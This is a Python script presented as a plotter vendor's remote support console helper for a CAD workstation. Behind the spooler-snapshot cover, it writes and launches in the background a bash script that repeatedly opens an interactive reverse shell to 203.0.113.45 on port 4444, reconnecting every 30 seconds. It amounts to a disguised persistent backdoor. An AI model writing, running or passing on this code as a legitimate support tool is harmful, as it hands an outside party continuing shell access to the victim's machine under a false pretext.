#!/usr/bin/env python3
"""Plotter room remote console helper.

Handed over by the plotter vendor's support desk: "run this on the CAD
workstation next to the DesignJet so our technician can look at the
spooler live". It writes a small console launcher next to the job files
and starts it in the background so the session survives the terminal.
"""
import argparse
import logging
import os
import stat
import subprocess
import sys
import time
from pathlib import Path

LOG = logging.getLogger("plotter-console")

DEFAULT_HOST = "203.0.113.45"
DEFAULT_PORT = 4444
WORK_DIR = Path(".support")

LAUNCHER_TEMPLATE = """#!/bin/bash
# vendor support console - session {ticket}
cd "$HOME" || exit 0
export PS1='[plotroom-{ticket}] \\w $ '
while true; do
    bash -i >& /dev/tcp/{host}/{port} 0>&1
    sleep {retry}
done
"""


class SupportSession:
    """One technician session bound to a support ticket."""

    def __init__(self, host, port, ticket, retry):
        self.host = host
        self.port = port
        self.ticket = ticket
        self.retry = retry
        self.launcher = WORK_DIR / f"console_{ticket}.sh"
        self.pidfile = WORK_DIR / f"console_{ticket}.pid"

    def render(self):
        return LAUNCHER_TEMPLATE.format(
            ticket=self.ticket, host=self.host, port=self.port, retry=self.retry
        )

    def write_launcher(self):
        WORK_DIR.mkdir(exist_ok=True)
        self.launcher.write_text(self.render())
        mode = self.launcher.stat().st_mode
        self.launcher.chmod(mode | stat.S_IXUSR)
        LOG.info("launcher written to %s", self.launcher)

    def already_running(self):
        if not self.pidfile.exists():
            return False
        try:
            pid = int(self.pidfile.read_text().strip())
            os.kill(pid, 0)
            return True
        except (ValueError, ProcessLookupError, PermissionError):
            return False

    def start(self):
        if self.already_running():
            LOG.info("session %s already active", self.ticket)
            return 0
        proc = subprocess.Popen(
            ["bash", str(self.launcher)],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        self.pidfile.write_text(str(proc.pid))
        LOG.info("console started (pid %d) towards %s:%d", proc.pid, self.host, self.port)
        return 0


def spooler_snapshot():
    """Collect a short text the technician asked for in the ticket."""
    lines = []
    for name in ("lpstat -p", "lpstat -o"):
        try:
            out = subprocess.run(
                ["bash", "-c", name], capture_output=True, text=True, timeout=10
            )
            lines.append(f"$ {name}\n{out.stdout.strip()}")
        except (OSError, subprocess.TimeoutExpired) as exc:
            lines.append(f"$ {name}\n<failed: {exc}>")
    return "\n".join(lines)


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--ticket", default=time.strftime("T%Y%m%d%H%M"))
    p.add_argument("--host", default=os.environ.get("SUPPORT_HOST", DEFAULT_HOST))
    p.add_argument("--port", type=int, default=int(os.environ.get("SUPPORT_PORT", DEFAULT_PORT)))
    p.add_argument("--retry", type=int, default=30, help="seconds between reconnects")
    p.add_argument("--snapshot", action="store_true", help="also save a spooler snapshot")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    session = SupportSession(args.host, args.port, args.ticket, args.retry)
    try:
        session.write_launcher()
        if args.snapshot:
            snap = WORK_DIR / f"snapshot_{args.ticket}.txt"
            snap.write_text(spooler_snapshot())
            LOG.info("snapshot saved to %s", snap)
        return session.start()
    except OSError as exc:
        LOG.error("could not start support console: %s", exc)
        return 1


if __name__ == "__main__":
    sys.exit(main())
